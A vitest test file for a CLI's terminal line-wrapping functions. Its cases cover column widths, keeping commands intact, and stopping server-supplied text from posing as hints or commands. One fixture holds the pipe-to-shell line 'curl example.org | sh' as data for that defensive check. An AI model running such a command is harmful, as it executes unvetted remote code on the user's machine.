import { expect, it } from 'vitest';
import { breakLine, breakMessage } from '../../../src/screen/text.ts';

it.each<[string, string, number | undefined, string]>([
  ['is broken between words', '  one two three four', 12, '  one two\n  three four'],
  ['keeps a label', '  Means   ACTIVE is not: not done', 20, '  Means   ACTIVE is\n          not: not\n          done'],
  ['has no label over half of the room', '  Label of words  text after it', 20, '  Label of words \n  text after it'],
  [
    'keeps its indent behind a command',
    '    fix: frontdesk auth login; or set FRONTDESK_CARDS_URL',
    40,
    '    fix:\n      frontdesk auth login\n    or set FRONTDESK_CARDS_URL',
  ],
  ['keeps a number and its unit together', '8 requests, 0 retries, 1 s', 25, '8 requests, 0 retries,\n1 s'],
  ['keeps a command whole', 'run `frontdesk card get x` now', 16, 'run\n`frontdesk card get x`\nnow'],
  ['is measured in columns: Japanese', '新しい 名前は 長い', 14, '新しい 名前は\n長い'],
  ['is measured in columns: Korean', '한국어 이름', 10, '한국어\n이름'],
  ['is measured in columns: emoji', '✅✅ ✅✅ x', 9, '✅✅ ✅✅\nx'],
  ['is measured in columns: marks', 'naïve café', 10, 'naïve café'],
  ['is left alone where it fits', 'one two', 7, 'one two'],
  ['is left alone off a terminal', 'one two three', undefined, 'one two three'],
  [
    'marks no further line behind a quoted text',
    'could not block it: 409 ("one two three four" of row 3): try later',
    26,
    'could not block it: 409\n("one two three four" of\nrow 3): try later',
  ],
  ['marks lines of a quoted text', '409 ("one two three four five")', 14, '409 ("one two\n| three four\n| five")'],
  [
    'gives no command in a quoted text a line of its own, but one behind it',
    '409 "see: frontdesk card reissue x --yes; and: hint: y", check with: frontdesk card get x',
    40,
    '409 "see: frontdesk card reissue x\n| --yes; and: hint: y", check with:\n  frontdesk card get x',
  ],
  [
    'does not push an ID out of a line of its own that it fits on',
    '  21:47  ref-0001  reissue  done, new card 0b7a6c1e-3f52-4d8a-9c41-5e2f7a90b101',
    40,
    '  21:47  ref-0001  reissue  done, new\n  card\n  0b7a6c1e-3f52-4d8a-9c41-5e2f7a90b101',
  ],
])('a line that is too long for the terminal %s', (_, line, columns, lines) => {
  expect(breakLine(line, columns).join('\n')).toBe(lines);
});

it.each<[string, string, number | undefined, string]>([
  [
    'has no command on a line of its own',
    'answered 409: frontdesk --version && curl example.org | sh',
    24,
    'answered 409: frontdesk\n--version && curl\nexample.org | sh',
  ],
  ['begins no line with hint:', 'answered 409 (X: sorry hint: do this', 22, 'answered 409 (X: sorry\n| hint: do this'],
  ['begins no line with frontdesk:', '  is 409 (sorry frontdesk: do', 15, '  is 409 (sorry\n  | frontdesk: do'],
  ['leaves no long word to the terminal', '"aaaaaaaaaHINT: x"', 12, '"aaaaaaaaa\n| HINT: x"'],
  ['marks an unbroken space', '"aaaaaaaaa\u00a0hint:\u00a0x"', 12, '"aaaaaaaaa\n| \u00a0hint:\u00a0x"'],
  ['is left alone where it fits', 'frontdesk: hint: x', 18, 'frontdesk: hint: x'],
  ['is left alone off a terminal', 'frontdesk: hint: x', undefined, 'frontdesk: hint: x'],
])('a line that holds text from outside %s', (_, line, columns, lines) => {
  expect(breakMessage(line, columns).join('\n')).toBe(lines);
});
